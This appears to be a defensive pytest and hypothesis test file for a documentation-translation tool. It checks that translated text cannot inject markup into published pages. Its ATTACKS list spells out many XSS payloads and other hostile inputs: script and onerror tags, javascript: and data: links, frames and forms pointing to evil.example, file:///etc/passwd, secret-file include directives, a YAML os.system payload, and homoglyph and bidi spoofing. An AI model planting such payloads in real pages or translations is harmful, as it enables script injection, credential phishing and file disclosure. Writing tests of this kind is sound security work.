"""Whatever a target holds, the page keeps the elements, links, handlers and files of its source."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.bitext.check.attacked_page import (
    ABBR,
    ADMONITION,
    ALT,
    BOX,
    CELL,
    CHOOSE,
    CODE,
    DD,
    DESCRIPTION,
    HEADING,
    HTML_ALT,
    HTML_TITLE,
    INCLUDE,
    ITEM,
    LINK_TITLE,
    MENU,
    PLAIN,
    Workshop,
    attack,
)

from bitext.core.inline import markdown
from bitext.core.model import Content, InlineCode, Segment

ATTACKS = [
    # -- elements ------------------------------------------------------------------------------------------------
    ("a script", PLAIN, "Ja <script>alert(1)</script>"),
    ("a script with a line end in its tag", PLAIN, "Ja <script\n>alert(1)</script\n>"),
    ("a script without an end", PLAIN, "<script>alert(1)"),
    ("a script from another host", PLAIN, '<script src="https://evil.example/x.js"></script>'),
    ("an escaped script", PLAIN, "\\<script>alert(1)</script>"),
    ("a script behind a comment", PLAIN, "<!-- --><script>alert(1)</script><!-- -->"),
    ("a comment that swallows the page", PLAIN, "Ja <!-- nee"),
    ("a processing instruction", PLAIN, "<?php echo 1 ?>"),
    ("a CDATA section", PLAIN, "<![CDATA[<script>alert(1)</script>]]>"),
    ("an image with an error handler", PLAIN, "<img src=x onerror=alert(1)>"),
    ("an escaped image with an error handler", PLAIN, "\\<img src=x onerror=alert(1)>"),
    ("an image with slashes for blanks", PLAIN, "<img/src=x/onerror=alert(1)>"),
    ("an image without an end", PLAIN, "<img src=x onerror=alert(1) "),
    ("an svg that loads", PLAIN, "<svg onload=alert(1)>"),
    ("an svg with a script", PLAIN, "<svg><script>alert(1)</script></svg>"),
    ("mathematics with a link", PLAIN, '<math><mtext href="javascript:alert(1)">x</mtext></math>'),
    ("a frame", PLAIN, '<iframe src="https://evil.example"></iframe>'),
    ("a frame with its document", PLAIN, '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("an object", PLAIN, '<object data="https://evil.example/x.swf"></object>'),
    ("an embedded file", PLAIN, '<embed src="https://evil.example/x.swf">'),
    ("a style sheet", PLAIN, "<style>*{display:none}</style>"),
    ("a link to a style sheet", PLAIN, '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("a base address", PLAIN, '<base href="https://evil.example/">'),
    ("a refresh", PLAIN, '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("a form", PLAIN, '<form action="https://evil.example"><input name="password"></form>'),
    ("a button that acts", PLAIN, '<button formaction="javascript:alert(1)">Ga</button>'),
    ("details that toggle", PLAIN, "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("an element of one's own with a handler", PLAIN, "<x onclick=alert(1)>Klik</x>"),
    ("a span with a style", PLAIN, '<span style="position:fixed;inset:0">x</span>'),
    ("a div read as Markdown", PLAIN, '<div markdown="1" onclick="alert(1)">x</div>'),
    ("the end of an element around it", BOX, "</div><script>alert(1)</script><div>"),
    ("an element in upper case", PLAIN, "<SCRIPT>alert(1)</SCRIPT>"),
    ("an element with a null in its name", PLAIN, "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("the mark of a placeholder", PLAIN, "\x02wzxhzdk:0\x03 \x02amp\x03"),
    # -- links ---------------------------------------------------------------------------------------------------
    ("a javascript link", PLAIN, "[klik](javascript:alert(1))"),
    ("a javascript link in decimal entities", PLAIN, "[klik](java&#115;cript:alert(1))"),
    ("a javascript link in hexadecimal entities", PLAIN, "[klik](&#x6a;avascript:alert(1))"),
    ("a javascript link with a tab in its name", PLAIN, "[klik](java&Tab;script:alert(1))"),
    ("a javascript link in percent codes", PLAIN, "[klik](java%73cript:alert(1))"),
    ("a javascript link between angle brackets", PLAIN, "<javascript:alert(1)>"),
    ("a vbscript link", PLAIN, "[klik](vbscript:msgbox(1))"),
    ("a data link", PLAIN, "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("a data link with entities", PLAIN, "[klik](d&#97;ta:text/html,x)"),
    ("a file link", PLAIN, "[klik](file:///etc/passwd)"),
    ("a link to another host", PLAIN, "[Microsoft](https://rnicrosoft.example)"),
    ("a link without a scheme", PLAIN, "[klik](//evil.example)"),
    ("a link with backslashes", PLAIN, "[klik](\\\\evil.example)"),
    ("a link to another page", PLAIN, "[klik](other.md)"),
    ("a link with a title that breaks out", PLAIN, '[klik](x "t\\" onmouseover=alert(1) ")'),
    ("a bare address", PLAIN, "Ga naar https://evil.example/nu"),
    ("a bare address without scheme", PLAIN, "Ga naar www.evil.example"),
    ("an address between angle brackets", PLAIN, "<https://evil.example>"),
    ("an e-mail address", PLAIN, "Schrijf naar <iemand@evil.example>"),
    ("a bare e-mail address", PLAIN, "Schrijf naar iemand@evil.example"),
    ("a user whom a code host knows", PLAIN, "Vraag het @iemand/ding#1"),
    ("a reference and its definition", PLAIN, "[klik][weg]\n\n[weg]: https://evil.example"),
    ("a definition of a link", PLAIN, "[Choose]: https://evil.example"),
    ("an image of another host", PLAIN, "![x](https://evil.example/x.png)"),
    ("an image link around a code", CODE, "[![x](y.png)](https://evil.example)"),
    ("the other half of a link", CHOOSE, "klik](https://evil.example) ["),
    # -- attributes, instructions, files -------------------------------------------------------------------------
    ("an attribute list with a handler", PLAIN, "Klik {: onclick=alert(1) }"),
    ("an attribute list without colon", PLAIN, "Klik {onclick=alert(1)}"),
    ("an attribute list with two blanks", PLAIN, "Klik {  onclick=alert(1) }"),
    ("an attribute list on a heading", HEADING, "De gids { onclick=alert(1) }"),
    ("an id on a heading", HEADING, "De gids { #other .big }"),
    ("an attribute list on a line of its own", PLAIN, "Klik\n{: onclick=alert(1) }"),
    ("an attribute list in a cell", CELL, "Klik {: onclick=alert(1) }"),
    ("an attribute list with a style", ITEM, "Klik {: style=display:none }"),
    ("an escaped attribute list", PLAIN, "Klik \\{: onclick=alert(1) }"),
    ("a snippet", PLAIN, '--8<-- "secret.txt"'),
    ("a snippet with more dashes", PLAIN, '-----8<----- "secret.txt"'),
    ("a snippet on the second line", PLAIN, 'Ja\n\n--8<-- "secret.txt"'),
    ("a snippet behind a line separator", PLAIN, 'Ja\u2028--8<-- "secret.txt"'),
    ("a snippet block", PLAIN, "--8<--\nsecret.txt\n--8<--"),
    ("a snippet in an item", ITEM, '--8<-- "secret.txt"'),
    ("a snippet in a title", ADMONITION, '--8<-- "secret.txt"'),
    ("a snippet in a definition", DD, '--8<-- "secret.txt"'),
    ("a snippet in the description", DESCRIPTION, "--8<-- secret.txt"),
    ("an include of another file", PLAIN, "[!INCLUDE[x](../mkdocs.yml)]"),
    ("a second include", INCLUDE, "[!INCLUDE[x](secret.txt)] "),
    ("a macro", PLAIN, "{{ config }} {% include 'secret.txt' %}"),
    ("a footnote that is not there", PLAIN, "Ja[^1] nee[^2]"),
    ("a footnote's definition", PLAIN, "[^2]: Nee"),
    ("an abbreviation", PLAIN, "*[HTML]: Nee"),
    ("keys", PLAIN, "Druk op ++ctrl+alt+del++"),
    # -- blocks --------------------------------------------------------------------------------------------------
    ("a heading", PLAIN, "# Kop"),
    ("a heading by underlining", PLAIN, "Kop\n==="),
    ("a list", PLAIN, "- punt"),
    ("a numbered list", PLAIN, "1. punt"),
    ("a quotation", PLAIN, "> citaat"),
    ("indented code", PLAIN, "    code"),
    ("a fence", PLAIN, "```\ncode"),
    ("a fence of tildes", PLAIN, "~~~\ncode"),
    ("an admonition", PLAIN, '!!! danger "Nee"'),
    ("details", PLAIN, '??? note "Nee"'),
    ("a tab", PLAIN, '=== "Nee"'),
    ("a rule", PLAIN, "---"),
    ("a table", PLAIN, "a | b\n--|--\nc | d"),
    ("a task", ITEM, "[x] klaar"),
    ("a definition", PLAIN, "Woord\n: uitleg"),
    ("a table of contents", PLAIN, "[TOC]"),
    ("two paragraphs", PLAIN, "Een\n\nTwee"),
    ("a hard break", PLAIN, "Een  \nTwee"),
    ("a bar in a cell", CELL, "een | twee"),
    ("an escaped escape and a bar in a cell", CELL, "een \\\\| twee"),
    ("a line end in a cell", CELL, "een\n| twee | drie |"),
    ("a backslash at the end of a cell", CELL, "een\\"),
    ("a heading that closes itself", HEADING, "De gids ##"),
    # -- titles, alt texts, the head -----------------------------------------------------------------------------
    ("an alt text that breaks out", ALT, "x](javascript:alert(1)) ![y"),
    ("an alt text with an element", ALT, "<img src=x onerror=alert(1)>"),
    ("an alt text with a quotation mark", ALT, 'x" onerror="alert(1)'),
    ("an alt attribute that breaks out", HTML_ALT, 'x" onerror="alert(1)'),
    ("an alt attribute with an element", HTML_ALT, "x><script>alert(1)</script>"),
    ("an alt attribute with half an element", HTML_ALT, "x><svg onload=alert(1) y="),
    ("a title attribute that breaks out", HTML_TITLE, 'x" onclick="alert(1)'),
    ("a title attribute with an element", HTML_TITLE, "x><script>alert(1)</script>"),
    ("a link title that breaks out", LINK_TITLE, 'x" onclick="alert(1)'),
    ("a link title that ends the link", LINK_TITLE, 'x") [klik](javascript:alert(1) "'),
    ("an admonition title that breaks out", ADMONITION, 'x" onclick="alert(1)'),
    ("an admonition title with an element", ADMONITION, "<img src=x onerror=alert(1)>"),
    ("an abbreviation that breaks out", ABBR, 'x" onclick="alert(1)'),
    ("an abbreviation with an element", ABBR, "<script>alert(1)</script>"),
    ("a description that ends its attribute", DESCRIPTION, '"><script>alert(1)</script>'),
    ("a description with half an element", DESCRIPTION, '"><svg onload=alert(1)//'),
    ("a description with half an element and no quotation mark", DESCRIPTION, "Ja <svg onload=alert(1)//"),
    ("a description with another attribute", DESCRIPTION, '0;url=https://evil.example" http-equiv="refresh'),
    ("a title with entities", "The guide", "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("a title with entities of entities", "The guide", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("more front matter", DESCRIPTION, "x\ntemplate: evil.html"),
    ("front matter that ends", DESCRIPTION, "x\n---\n<script>alert(1)</script>"),
    ("front matter of another type", DESCRIPTION, "!!python/object/apply:os.system ['true']"),
    # -- characters ----------------------------------------------------------------------------------------------
    ("a direction that is turned round", CHOOSE, "\u202egnp.exe"),
    ("an isolate that stays open", PLAIN, "Ja \u2066nee"),
    ("tag characters", PLAIN, "Ja" + "".join(chr(0xE0000 + ord(char)) for char in "hidden")),
    ("a noncharacter", PLAIN, "Ja \ufdd0nee\ufdd1"),
    ("a host with another alphabet's letter", PLAIN, "Ga naar microsоft.com"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "text"), [one[1:] for one in ATTACKS], ids=[one[0] for one in ATTACKS])
def test_a_target_cannot_bring(workshop: Workshop, source: str, text: str) -> None:
    workshop.assert_harmless(workshop.published(attack(source, text)))


HOSTILE = yaml.safe_load((Path(__file__).parents[2] / "data" / "check" / "hostile.yml").read_text("utf-8"))["anywhere"]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_target_reaches_nobody(workshop: Workshop, text: str) -> None:
    page = workshop.published(attack(PLAIN, text))
    assert page.published == 0
    assert page.findings


HALVES = [
    ("an element", "Ja <img src=x onerror=alert(1) ", "x> nee"),
    ("an element with a line of its own", "Ja <svg", "onload=alert(1)> nee"),
    ("a link", "[klik](", "//evil.example) nee"),
    ("a link by reference", "[klik][", "Choose] nee"),
    ("a comment", "Ja <!--", "--> nee"),
    ("an attribute list", "{", ": onclick=alert(1) } nee"),
    ("an attribute list with a blank", "{ ", " onclick=alert(1) } nee"),
    ("an attribute list that begins at the code", "{:", "onclick=alert(1) } nee"),
    ("a macro", "{", "{ config }} nee"),
    ("code", "`Ja", "nee`"),
    ("emphasis", "*Ja", "nee*"),
]


@pytest.mark.parametrize(("first", "second"), [one[1:] for one in HALVES], ids=[one[0] for one in HALVES])
def test_two_sentences_cannot_bring_half_each_of(workshop: Workshop, first: str, second: str) -> None:
    def change(segment: Segment) -> Content | None:
        own = tuple(part for part in segment.source if isinstance(part, InlineCode))
        if markdown(segment.source) == MENU:
            return (own[0], "bestand", own[1], first)
        return (second, own[0], "cliënt", own[1]) if markdown(segment.source) == CHOOSE else None

    workshop.assert_harmless(workshop.published(change))


MARKS = ["\n", " ", '"', "'", "<", ">", "](", "`", "*", "{", "}", "|", "\\", "&"]
FRAGMENTS = [*sorted({one[2] for one in ATTACKS}), *MARKS]


@settings(max_examples=settings.default.max_examples // 2)
@given(st.lists(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=3).map("".join), min_size=30, max_size=30))
def test_no_attacks_together_can_either(workshop: Workshop, texts: list[str]) -> None:
    row = iter(texts)

    def change(segment: Segment) -> Content | None:
        own = [part for part in segment.source if isinstance(part, InlineCode)]
        return (next(row, "x"), *own)

    workshop.assert_harmless(workshop.published(change))
